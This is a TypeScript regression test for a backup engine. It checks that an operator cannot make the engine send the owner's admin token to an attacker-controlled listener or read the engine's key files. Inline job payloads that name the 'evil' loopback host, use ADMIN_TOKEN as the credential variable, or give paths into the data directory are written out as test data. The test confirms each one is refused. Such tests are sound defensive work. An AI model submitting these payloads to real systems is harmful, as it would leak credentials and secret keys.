/**
 * Issue #13 item 1, the attack: an `operator` (job.write + run.trigger, through the real perimeter
 * path) tries to make the engine send the owner's ADMIN_TOKEN to a listener of theirs (a plain TCP
 * server on 127.0.0.1 that records every byte it receives). Every job shape that names a host or
 * a credential variable is refused 400 with a stable code; the shapes that are accepted can only
 * name an owner-configured connection; a job stored with the old inline shape (as before this
 * change) is not migrated (no connection matches the listener) and its run fails with `source
 * binding error` without opening anything. The listener never receives a connection, let alone
 * the token.
 */
import { randomBytes } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { createServer, type Socket } from 'node:net';
import { join } from 'node:path';
import { encodeKeyFile, generateRecipient } from '@coffer/crypto';
import { redisUrl, tempDir } from '@coffer/testkit';
import { Redis } from 'ioredis';
import t from 'tap';
import { ADMIN_TOKEN, http, startEngine } from '../helpers/engine.ts';
import { AUDIENCE, ISSUER, startKeySet, TEAM_DOMAIN } from '../helpers/perimeter.ts';
import { makePki } from '../helpers/tls.ts';

t.test('an operator cannot make the engine send the admin token to a host of theirs', async (t) => {
  // The attacker's listener: records connections and bytes.
  const received: Buffer[] = [];
  let connections = 0;
  const sockets = new Set<Socket>();
  const listener = createServer((s) => {
    connections++;
    sockets.add(s);
    s.on('data', (d) => received.push(d));
    s.on('close', () => sockets.delete(s));
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
  t.teardown(
    () =>
      new Promise<void>((r) => {
        for (const s of sockets) s.destroy();
        listener.close(() => r());
      }),
  );
  const evil = `redis://127.0.0.1:${(listener.address() as { port: number }).port}`;

  // The owner's deployment: one redis connection (the real loopback server).
  const real = new URL(await redisUrl());
  process.env.COFFER_TEST_ATTACK_REDIS_PASSWORD = decodeURIComponent(real.password);
  const dir = tempDir(t, 'coffer-attack-');
  writeFileSync(join(dir, 'bg.pub'), encodeKeyFile('recipient-public', generateRecipient().publicKey));
  writeFileSync(
    join(dir, 'connections.json'),
    JSON.stringify({
      connections: {
        cache: {
          type: 'redis',
          url: `redis://${real.hostname}:${real.port}`,
          passwordEnv: 'COFFER_TEST_ATTACK_REDIS_PASSWORD',
        },
      },
    }),
  );
  const pki = makePki(tempDir(t));
  const keys = await startKeySet(pki);
  t.teardown(() => keys.close());
  const { url, app } = await startEngine(
    t,
    {
      PERIMETER_ACCESS_TEAM_DOMAIN: TEAM_DOMAIN,
      PERIMETER_ACCESS_AUD: AUDIENCE,
      ENGINE_CONNECTIONS_FILE: join(dir, 'connections.json'),
      ENGINE_BREAK_GLASS_PUBLIC_KEY: join(dir, 'bg.pub'),
    },
    {
      testOnly: { perimeterJwksUrl: keys.jwksUrl, perimeterJwksCa: pki.caCert },
      rateLimit: { max: 1000, windowSeconds: 60 },
    },
  );
  await app.state.roles.assign({
    subject: `${ISSUER}#op-1`,
    role: 'operator',
    email: 'op-1@example.com',
    grantedBy: null,
  });
  const operator = {
    'perimeter-access-jwt-assertion': await keys.sign({ sub: 'op-1', email: 'op-1@example.com' }),
  };
  const post = (path: string, body: unknown) => http(`${url}/admin${path}`, { headers: operator, body });

  // 0. What the operator can see: the connection ids to pick from, never a credential or its name.
  const listed = await http(`${url}/admin/connections`, { headers: operator });
  t.equal(listed.status, 200, listed.text);
  t.same(listed.json(), {
    connections: [{ id: 'cache', type: 'redis', host: `${real.hostname}:${real.port}`, restore: false }],
    scratch: { redis: null, s3: null },
  });
  t.notMatch(listed.text, /PASSWORD|passwordEnv/, 'no credential variable name');

  // 1. Every shape that names a host or a credential variable: 400 with a stable code.
  const refused: Array<[string, Record<string, unknown>, string, RegExp]> = [
    [
      'the original attack',
      { type: 'redis', url: evil, passwordEnv: 'ADMIN_TOKEN' },
      'ERR_JOB_INLINE_CONNECTION',
      /source\.url is no longer accepted.*ENGINE_CONNECTIONS_FILE/,
    ],
    [
      'a connection plus a credential name',
      { type: 'redis', connection: 'cache', passwordEnv: 'ADMIN_TOKEN' },
      'ERR_JOB_INLINE_CONNECTION',
      /source\.passwordEnv/,
    ],
    [
      'an s3 endpoint of theirs',
      {
        type: 's3',
        bucket: 'loot',
        endpoint: evil.replace('redis', 'http'),
        accessKeyIdEnv: 'ADMIN_TOKEN',
        secretAccessKeyEnv: 'ADMIN_TOKEN',
      },
      'ERR_JOB_INLINE_CONNECTION',
      /source\.endpoint/,
    ],
    [
      'a connection nobody configured',
      { type: 'redis', connection: 'evil' },
      'ERR_JOB_UNKNOWN_CONNECTION',
      /"evil" is not configured/,
    ],
    [
      'a redis connection as s3',
      { type: 's3', connection: 'cache', bucket: 'loot' },
      'ERR_JOB_CONNECTION_TYPE',
      /is a redis connection, not s3/,
    ],
    [
      'the engine data dir',
      { type: 'files', path: app.config.dataDir },
      'ERR_JOB_PATH_NOT_ALLOWED',
      /data dir/,
    ],
    [
      'the engine key files',
      { type: 'files', path: join(app.config.dataDir, 'keys') },
      'ERR_JOB_PATH_NOT_ALLOWED',
      /data dir/,
    ],
    [
      'a tree holding the data dir',
      { type: 'files', path: join(app.config.dataDir, '..') },
      'ERR_JOB_PATH_NOT_ALLOWED',
      /contains/,
    ],
  ];
  for (const [name, source, code, error] of refused) {
    const r = await post('/jobs', { id: 'steal', cadenceSeconds: 3600, source });
    t.equal(r.status, 400, `${name}: ${r.text}`);
    t.equal(r.json().code, code, name);
    t.match(r.json().error, error, name);
    const b = await post('/jobs/bulk', { jobs: [{ id: 'steal', cadenceSeconds: 3600, source }] });
    t.match(b.json().outcomes[0], { outcome: 'error', code }, `${name} (bulk)`);
  }
  t.equal(await app.state.jobs.get('steal'), null, 'nothing was stored');
  const audit = JSON.stringify(
    (
      await http(`${url}/admin/audit?action=job-upsert`, {
        headers: { authorization: `Bearer ${ADMIN_TOKEN}` },
      })
    ).json(),
  );
  t.match(audit, /ERR_JOB_UNKNOWN_CONNECTION/, 'refusals are audited by code');

  // 2. The shapes that are accepted name an owner-configured connection only; a run reads the
  // owner's server, never the listener.
  const prefix = `coffer-attack-${randomBytes(4).toString('hex')}:`;
  const src = new Redis(real.toString(), { db: 9, maxRetriesPerRequest: 2 });
  t.teardown(async () => {
    const k = await src.keys(`${prefix}*`);
    if (k.length > 0) await src.del(...k);
    src.disconnect();
  });
  await src.set(`${prefix}a`, 'value');
  const ok = await post('/jobs', {
    id: 'cache',
    cadenceSeconds: 3600,
    source: { type: 'redis', connection: 'cache', db: 9, keyPrefix: prefix },
  });
  t.equal(ok.status, 200, ok.text);
  const trig = await post('/trigger', { id: 'cache' });
  t.equal(trig.status, 200, trig.text);
  await app.runs.idle();
  t.match(await app.state.runs.get(trig.json().runId), { status: 'ok', records: 1 });

  // 3. A job stored with the old inline shape (before this change): not migrated at start (no
  // connection matches the listener), its run fails without opening a connection.
  await app.state.jobs.upsert({
    id: 'legacy',
    cadenceSeconds: 3600,
    enabled: true,
    destinations: ['default'],
    restoreTestCadenceSeconds: null,
    source: { type: 'redis', url: evil, passwordEnv: 'ADMIN_TOKEN' },
  });
  const legacy = await http(`${url}/admin/trigger`, { headers: operator, body: { id: 'legacy' } });
  t.equal(legacy.status, 200, legacy.text);
  await app.runs.idle();
  const run = await app.state.runs.get(legacy.json().runId);
  t.match(run, {
    status: 'failed',
    reason: 'source binding error',
    detail: { code: 'ERR_RUN_CONNECTION_UNCONFIGURED' },
  });

  await new Promise((r) => setTimeout(r, 200));
  t.equal(connections, 0, 'the listener was never connected to');
  t.notMatch(
    Buffer.concat(received).toString('latin1'),
    ADMIN_TOKEN,
    'the listener never received the admin token',
  );
});
